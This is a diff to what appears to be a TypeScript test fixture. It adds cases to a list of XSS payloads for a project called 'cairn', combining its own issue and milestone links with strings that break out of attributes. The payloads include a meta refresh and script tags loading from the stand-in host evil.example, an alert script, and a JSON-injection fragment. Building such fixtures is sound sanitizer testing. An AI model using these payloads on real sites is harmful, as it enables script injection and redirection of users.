@@ -107,6 +107,32 @@ const HOLES: ((breakout: string) => string)[] = [
 ];
 const breakouts = BREAKOUTS.flatMap((value) => HOLES.map((hole) => hole(value)));
 
+/**
+ * Addresses of ours that stand for themselves become references; what else their links have must not. Tests
+ * put the path of a place of theirs where `g/p` is.
+ */
+const OWN = [
+  "https://cairn.example/g/p/-/issues/1",
+  "https://cairn.example/g/p/-/issues/1#note_1",
+  "https://cairn.example/g/p/-/milestones/1",
+  "https://cairn.example/groups/g/-/milestones/1",
+];
+const ENDS = [
+  "</cairn-reference><meta http-equiv=refresh content=0;url=//evil.example>",
+  "&lt;/cairn-reference&gt;&lt;script src=//evil.example&gt;",
+  "</a><script>alert(1)</script>",
+  '\\"},{"to":"issue","id":1,"typed":"x"}',
+];
+const SELF_LINKS: ((url: string, end: string) => string)[] = [
+  (url, end) => `[${url}](${url} "${end}")`,
+  (url, end) => `[${url}](<${url}> '${end}') #1 ~bug`,
+  (url, end) => `<a href="${url}" title="${end}">${url}</a>`,
+  (url, end) => `<a href='${url}' id='${end}' class='gfm ${end}' data-n=0>${url}</a>`,
+];
+const references = OWN.flatMap((url) =>
+  ENDS.flatMap((end) => SELF_LINKS.map((link) => link(url, end))),
+);
+
 const byHand = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -277,5 +303,5 @@ const byHand = [
 ];
 
 export const XSS_PAYLOADS: readonly string[] = [
-  ...new Set([...byHand, ...handlers, ...links, ...breakouts]),
+  ...new Set([...byHand, ...references, ...handlers, ...links, ...breakouts]),
 ];
